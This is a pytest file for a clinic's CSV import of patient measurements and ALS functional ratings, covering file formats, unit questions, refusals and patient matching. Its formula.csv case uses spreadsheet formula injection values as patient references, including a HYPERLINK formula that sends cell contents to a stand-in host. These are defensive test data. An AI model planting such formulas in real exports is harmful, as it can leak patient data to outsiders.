"""Small files as people have them come in as ``tests/exchange/cases/README.md`` says is right, by what is answered."""

import datetime as dt

import pytest

from clinical.vocabulary import FUNCTION_ITEMS
from exchange.csv import CsvRefused, csv_parts
from exchange.tables.bring import Open
from people.models import Clinic, Patient
from symptoms.models import Measurement
from tests.exchange.tables.bringing import CASES, brought, case, kept, questions

SOURCES = ("self", "helped", "caregiver", "clinician")
ITEMS = [f"function.{item}" for item in FUNCTION_ITEMS]


@pytest.fixture
def clinic(db):
    return Clinic.objects.create(name="North Clinic")


def check(values, **more):
    """Twelve answers as digits; a blank was not recorded."""
    said = {item: int(value) for item, value in zip(ITEMS, values, strict=True) if value != " "}
    return said | {f"function.{name}": value for name, value in more.items()}


def row(reference, day, source="clinician", **values):
    return {(reference, day, source): values}


# What stands afterwards: the file, the answers beside what is proposed, and the rows.
COMES_IN = {
    "excel_de.csv": ({}, row("P9005", "2024-01-08", weight=71.2) | row("P9005", "2024-04-15", weight=70.1)),
    "excel_us.csv": ({}, row("P9005", "2024-01-08", weight=71.2) | row("P9005", "2024-04-15", weight=70.1)),
    "excel_trailing.csv": ({}, row("P9005", "2024-01-08", weight=71.2) | row("P9005", "2024-04-15", weight=70.1)),
    "excel_sep.csv": ({}, row("P9005", "2024-01-08", weight=71.2)),
    "tabs.csv": ({}, row("P9005", "2024-01-08", weight=71.2)),
    "utf16.csv": ({}, row("P9005", "2024-01-08", weight=71.2)),
    "header_caps.csv": ({}, row("P9010", "2024-01-08", weight=71.2)),
    "pandas_datetime.csv": (
        {},
        row("P9004", "2024-01-08", **{"function.speech": 4, "weight": 71.2})
        | row("P9004", "2024-04-15", **{"function.speech": 3}),
    ),
    "r_rownames.csv": ({}, row("P9003", "2024-01-08", weight=71.2) | row("P9003", "2024-04-15", weight=70.1)),
    "r_na.csv": (
        {},
        row("P9003", "2024-01-08", **{"function.speech": 4, "function.swallowing": 3, "weight": 71.2})
        | row("P9003", "2024-04-15", **{"function.swallowing": 3, "fvc_percent": 88}),
    ),
    "withings_de.csv": ({"patient": "H-1"}, row("H-1", "2024-03-27", "self", weight=69.6)),
    "fvc_fraction.csv": (
        {},
        row("P9006", "2024-01-08", fvc_percent=91) | row("P9006", "2024-04-15", fvc_percent=86),
    ),
    "half_points_mapped.csv": (
        {},
        {
            ("P9001", "2024-01-08", "clinician"): check("4433 3332444", gastrostomy=0),
            ("P9001", "2024-04-15", "clinician"): check("443323322443", gastrostomy=1),
        },
    ),
    "proact_alsfrs_native.csv": (
        {"start.9001": "2024-01-15", "start.9002": "2024-02-01"},
        {
            ("9001", "2024-01-08", "clinician"): check("4433 3332444", gastrostomy=0, total_given=39),
            ("9001", "2024-04-14", "clinician"): check("443323322443", gastrostomy=1, total_given=36),
            ("9002", "2024-02-01", "clinician"): check(" " * 12, total_given=41),
        },
    ),
    "r_package_native.csv": (
        {"value.2.x2r": "out"},
        {("901", "2021-03-04", "clinician"): check("3323234324 4")},
    ),
    "r_package_mapped.csv": (
        {"value.2.function.orthopnea": "4"},
        {
            ("K901", "2021-03-04", "clinician"): check("332323432444"),
            ("K902", "2021-03-04", "clinician"): check("4432223 3444"),
        },
    ),
    "two_tables.csv": (
        {"patient": "T-1", "source": "self", "means.Pain Level": "cramps.worst_pain"},
        {("T-1", "2024-03-27", "self"): {"cramps.worst_pain": 5}},
    ),
    "semicolon_total_only.csv": (
        {"source": "clinician"},
        row("71", "2023-09-01", **{"function.total_given": 40}),
    ),
    "formula.csv": (
        {},
        row('=HYPERLINK("http://x.example/?"&B2,"open")', "2024-01-08", **{"weight": 71.2, "asymmetry.hand": -1})
        | row("+49-7", "2024-01-08", weight=71.2)
        | row("@SUM(1)", "2024-01-08", weight=71.2),
    ),
    "wrong_day_1.csv": ({}, row("W1", "2024-01-08", fvc_percent=93)),
    "wrong_day_2_meant.csv": ({}, row("W1", "2024-08-01", fvc_percent=93)),
    "wrong_day_3_blank.csv": ({}, {}),
    "ids_first.csv": ({}, row("00123", "2024-01-08", weight=71.2) | row("s-21", "2024-01-08", weight=65)),
    "ids_second.csv": ({}, row("123", "2024-04-08", weight=70.2) | row("S-21", "2024-04-08", weight=64)),
    "weight_lb.csv": (
        {"value.3.weight": "lb"},
        row("P9007", "2024-01-08", weight=71.2)
        | row("P9007", "2024-04-15", weight=70.3)
        | row("P9007", "2024-07-15", weight=70.2),
    ),
}
# What is asked before anything is kept, beside what those answers say: its key, what may be answered, what is proposed.
ASKS = {
    "withings_de.csv": {"patient": ((), None), "source": (SOURCES, "self")},
    "fvc_fraction.csv": {"unit.fvc_percent": (("fraction", "%"), "fraction")},
    "half_points_mapped.csv": {"half_points": (("missing", "down"), "missing")},
    "proact_alsfrs_native.csv": {
        "source": (SOURCES, "clinician"),
        "start.9001": ((), None),
        "start.9002": ((), None),
        "half_points": (("missing", "down"), "missing"),
    },
    "r_package_native.csv": {"items": (("yes",), "yes"), "source": (SOURCES, "clinician")},
    "two_tables.csv": {
        "table": (("1", "2"), "2"),
        "means.Pain Level": ((), "out"),
        "patient": ((), None),
        "source": (SOURCES, None),
    },
    "semicolon_total_only.csv": {"source": (SOURCES, None)},
    "weight_lb.csv": {"value.3.weight": (("keep", "lb", "out"), None)},
}
REFUSED = {
    "total_n_missing.csv": "No column holds a day, so that it is not known when this was. Add a column with the date. "
    "“n” (line 3) would be read as missing.",
    "daylio.csv": "There is no column with something to record. A record has no place for the free notes of a day: "
    "note.",
    "r_package_mapped.csv": "Line 2, column function.orthopnea: “5” was found, a whole number from 0 to 4 is allowed.",
}


def test_every_case_is_held_to_what_is_right():
    names = {path.name for path in CASES.glob("*.csv")}

    assert set(COMES_IN) | set(REFUSED) == names


@pytest.mark.parametrize("name", COMES_IN)
def test_a_case_comes_in_as_it_should(clinic, name):
    answers, rows = COMES_IN[name]

    brought(case(name), clinic, **answers)

    assert kept(clinic) == rows


@pytest.mark.parametrize("name", [name for name in COMES_IN if name not in REFUSED])
def test_a_case_asks_what_only_a_person_can_say_and_keeps_nothing_before(clinic, name):
    assert questions(case(name), clinic) == ASKS.get(name, {})
    assert bool(kept(clinic)) == (not ASKS.get(name) and bool(COMES_IN[name][1]))


@pytest.mark.parametrize("name", REFUSED)
def test_a_case_that_can_t_come_in_is_refused_in_words(clinic, name):
    with pytest.raises(CsvRefused) as refused:
        brought(case(name), clinic, patient="D-1")

    assert str(refused.value) == REFUSED[name]
    assert not Patient.objects.exists()


def test_the_days_of_the_american_file_are_said_back_in_words(clinic):
    notes = brought(case("excel_us.csv"), clinic).done.notes

    assert notes == ("Line 2 is of 8 January 2024.", "The days go from 8 January 2024 to 15 April 2024.")


def test_a_total_that_is_not_that_of_its_items_is_said(clinic):
    answers, _rows = COMES_IN["proact_alsfrs_native.csv"]
    notes = brought(case("proact_alsfrs_native.csv"), clinic, **answers).done.notes

    assert "Line 3: the total says 36, its items come to 37. The items count." in notes


def test_days_kept_as_days_are_no_import(clinic):
    with pytest.raises(CsvRefused) as refused:
        brought(case("proact_alsfrs_native.csv"), clinic, start="days")

    assert str(refused.value) == "Days without a start can't be kept here: every row needs the day it is about."


def test_facts_of_the_person_come_in_with_the_onset_to_its_month(clinic):
    done = brought(case("semicolon_total_only.csv"), clinic, source="clinician")

    patient = Patient.objects.get(clinic=clinic, reference="71")
    assert (patient.birth_date, patient.onset_month, patient.onset_precision, patient.diagnosis_date) == (
        dt.date(1961, 2, 3),
        dt.date(2023, 1, 1),
        "month",
        dt.date(2023, 6, 1),
    )
    assert done.facts == 1
    assert done.proposal.notes == ("Left out: starting_trial_date.",)
    assert brought(case("semicolon_total_only.csv"), clinic, source="clinician").facts == 0


def test_a_weight_that_is_kilograms_after_all_is_kept_and_marked_as_confirmed(clinic):
    brought(case("weight_lb.csv"), clinic, **{"value.3.weight": "keep"})

    rows = Measurement.objects.standing().order_by("day").values_list("weight", "confirmed")
    assert list(rows) == [(71.2, []), (155, ["weight"]), (70.2, [])]


def test_the_second_file_asks_whether_they_are_the_same_people(clinic):
    brought(case("ids_first.csv"), clinic)

    assert questions(case("ids_second.csv"), clinic) == {
        "same.123": (("00123", "new"), None),
        "same.S-21": (("s-21", "new"), None),
    }
    assert len(kept(clinic)) == 2


def test_the_same_people_are_two_patients_in_the_end(clinic):
    brought(case("ids_first.csv"), clinic)
    brought(case("ids_second.csv"), clinic, **{"same.123": "00123", "same.S-21": "s-21"})

    assert kept(clinic) == (
        row("00123", "2024-01-08", weight=71.2)
        | row("00123", "2024-04-08", weight=70.2)
        | row("s-21", "2024-01-08", weight=65)
        | row("s-21", "2024-04-08", weight=64)
    )
    assert Patient.objects.count() == 2


def test_other_people_with_a_like_reference_stay_apart(clinic):
    brought(case("ids_first.csv"), clinic)
    brought(case("ids_second.csv"), clinic, **{"same.123": "new", "same.S-21": "new"})

    assert Patient.objects.count() == 4


def test_references_that_look_like_formulas_find_the_same_people_again(clinic):
    brought(case("formula.csv"), clinic)
    again = brought("".join(csv_parts(clinic.patients.all(), hidden=frozenset())), clinic)

    assert (again.done.unchanged, again.done.new, again.done.created) == (3, 0, ())


def test_after_the_wrong_day_the_blank_changes_nothing(clinic):
    brought(case("wrong_day_1.csv"), clinic)
    done = brought(case("wrong_day_3_blank.csv"), clinic).done

    assert kept(clinic) == row("W1", "2024-01-08", fvc_percent=93)
    assert (done.patients, done.notes) == (0, ("Nothing is recorded in line 2: left out.",))


def test_questions_come_with_what_can_t_be_read(clinic):
    with pytest.raises(Open) as asked:
        brought(case("r_package_native.csv"), clinic, accept=False)

    assert str(asked.value.refused) == ("Line 2, column x2r: “5” was found, a whole number from 0 to 4 is allowed.")
